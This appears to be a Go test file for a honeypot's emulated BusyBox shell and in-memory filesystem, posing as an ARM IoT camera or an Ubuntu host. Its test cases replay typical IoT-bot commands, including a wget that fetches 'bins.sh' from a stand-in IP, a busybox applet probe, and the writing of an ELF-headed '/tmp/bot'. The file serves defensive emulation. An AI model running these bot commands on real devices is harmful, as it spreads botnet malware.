@@ -0,0 +1,123 @@
+package shell
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func run(t *testing.T, s *Shell, line string) string {
+	t.Helper()
+	out, exited := s.Run(line)
+	require.False(t, exited)
+	return string(out)
+}
+
+func TestShell(t *testing.T) {
+	s := New(Options{Hostname: "IPC"})
+	require.Equal(t, "~ # ", s.Prompt())
+
+	for _, tc := range []struct {
+		line string
+		out  string
+	}{
+		{"enable\x00", "-sh: enable: not found\n"},
+		{"/bin/busybox ECCHI", "ECCHI: applet not found\n"},
+		{"cd /tmp || cd /var/run; pwd", "/tmp\n"},
+		{"echo -e '\\x6b\\x61\\x6d\\x69' > .nippon; cat .nippon", "kami\n"},
+		{"echo -ne '\\x48\\x6f' >> .nippon && cat .nippon | grep Ho", "Ho\n"},
+		{"(cat .s || cp /bin/echo .s)", "cat: can't open '.s': No such file or directory\n"},
+		{"(dd bs=4 count=1 if=.s || cat .s) 2>/dev/null", "\x7fELF"},
+		{"rm .s; rm .s", "rm: can't remove '.s': No such file or directory\n"},
+		{"cat /proc/cpuinfo | grep -c Processor", "1\n"},
+		{"grep tmpfs /proc/mounts | wc -l", "3\n"},
+		{"echo hi > /proc/x", "-sh: can't create /proc/x: Permission denied\n"},
+		{"mkdir a a", "mkdir: can't create directory 'a': File exists\n"},
+		{"cd a && pwd; cd /nope", "/tmp/a\n-sh: cd: can't cd to /nope: No such file or directory\n"},
+		{"X=1; export Y=2; echo $X ${Y}$HOME; false; echo $?", "1 2/root\n1\n"},
+		{"echo 'a; b' \"$X\"'$X' # comment", "a; b 1$X\n"},
+		{"printf '%s-%d\\n' a 3", "a-3\n"},
+		{"echo 'echo from script' > s.sh; sh s.sh; ./s.sh; chmod +x s.sh; ./s.sh", "from script\n-sh: ./s.sh: Permission denied\nfrom script\n"},
+		{"wget http://192.0.2.1/bins.sh", "Connecting to http://192.0.2.1/bins.sh (192.0.2.1:80)\nwget: can't connect to remote host (192.0.2.1:80): Connection timed out\n"},
+		{"curl http://192.0.2.1/x", "-sh: curl: not found\n"},
+		{"uname -a", "Linux IPC 3.0.8 #1 Mon Mar 3 16:00:18 CST 2014 armv7l GNU/Linux\n"},
+		{"echo 'unterminated", "-sh: syntax error: unterminated quoted string\n"},
+		{"; ls", "-sh: syntax error: unexpected \";\"\n"},
+		{"touch .hidden; ls", "s.sh\n"},
+		{"head -1 /proc/cpuinfo", "Processor\t: ARMv7 Processor rev 5 (v7l)\n"},
+		{"cat /proc/cpuinfo | head -n -1", "head: invalid number '-1'\n"},
+		{"head -c 4 /proc/cpuinfo; head -c5 /proc/cpuinfo", "ProcProce"},
+		{"head -c x /proc/cpuinfo", "head: invalid number 'x'\n"},
+		{"head -z /proc/cpuinfo", "head: invalid option -- 'z'\nUsage: head [OPTIONS] [FILE]...\n"},
+		{"ls -ld /tmp | grep -c drwxrwxrwt", "1\n"},
+		{"chmod 4755 s.sh; ls -l s.sh | grep -c rwsr-xr-x", "1\n"},
+		{"chmod 2644 s.sh; ls -l s.sh | grep -c rw-r-Sr--", "1\n"},
+	} {
+		require.Equal(t, tc.out, run(t, s, tc.line), tc.line)
+	}
+	require.Equal(t, "/tmp/a # ", s.Prompt())
+
+	out, exited := s.Run("exit")
+	require.Empty(t, out)
+	require.True(t, exited)
+}
+
+func TestShellLimits(t *testing.T) {
+	s := New(Options{})
+	// scripts calling themselves stop
+	run(t, s, "echo 'sh /tmp/loop' > /tmp/loop")
+	require.Contains(t, run(t, s, "sh /tmp/loop"), "nesting too deep")
+
+	out := run(t, s, "echo 'cat /tmp/big /tmp/big > /tmp/big2; mv /tmp/big2 /tmp/big' > /tmp/grow; echo 0123456789abcdef > /tmp/big; sh /tmp/grow; sh /tmp/grow")
+	require.Empty(t, out)
+	for range 20 {
+		run(t, s, "sh /tmp/grow 2>/dev/null")
+	}
+	require.LessOrEqual(t, s.fs.used, maxFSSize)
+}
+
+func TestShellOptions(t *testing.T) {
+	s := New(Options{
+		Hostname:    "web01",
+		Version:     "BusyBox v1.27.2 (Ubuntu 1:1.27.2-2ubuntu3.4)",
+		Kernel:      "4.15.0-213-generic",
+		KernelBuild: "#224-Ubuntu SMP",
+		Machine:     "x86_64",
+		Files:       map[string]string{"/etc/os-release": "ID=ubuntu\n", "/opt/app/.env": "KEY=1\n"},
+	})
+	require.Contains(t, s.Banner(), "BusyBox v1.27.2")
+	require.Equal(t, "Linux web01 4.15.0-213-generic #224-Ubuntu SMP x86_64 GNU/Linux\n", run(t, s, "uname -a"))
+	require.Equal(t, "ID=ubuntu\n", run(t, s, "cat /etc/os-release"))
+	require.Equal(t, "KEY=1\n", run(t, s, "cd /opt/app; cat .env"))
+
+	require.Equal(t, "Welcome\n", New(Options{Banner: "Welcome\n"}).Banner())
+}
+
+func TestFS(t *testing.T) {
+	fsys := NewFS(Options{Files: map[string]string{"/var/www/index.html": "<html>"}})
+
+	data, err := fsys.ReadFile("/var/www/index.html")
+	require.NoError(t, err)
+	require.Equal(t, "<html>", string(data))
+
+	require.NoError(t, fsys.WriteFile("/tmp/bot", []byte("\x7fELF"), false))
+	require.NoError(t, fsys.WriteFile("/tmp/bot", []byte("1"), true))
+	fi, err := fsys.Stat("/tmp/bot")
+	require.NoError(t, err)
+	require.Equal(t, int64(5), fi.Size())
+	require.False(t, fi.IsDir())
+
+	require.NoError(t, fsys.Mkdir("/tmp/x"))
+	require.NoError(t, fsys.Rename("/tmp/bot", "/tmp/x/bot"))
+	require.Error(t, fsys.Remove("/tmp/x"))
+	infos, err := fsys.ReadDir("/tmp/x")
+	require.NoError(t, err)
+	require.Len(t, infos, 1)
+	require.Equal(t, "bot", infos[0].Name())
+
+	_, err = fsys.ReadDir("/tmp/x/bot")
+	require.Error(t, err)
+	require.Error(t, fsys.WriteFile("/proc/x", nil, false))
+	_, err = fsys.Stat("/nope")
+	require.Error(t, err)
+}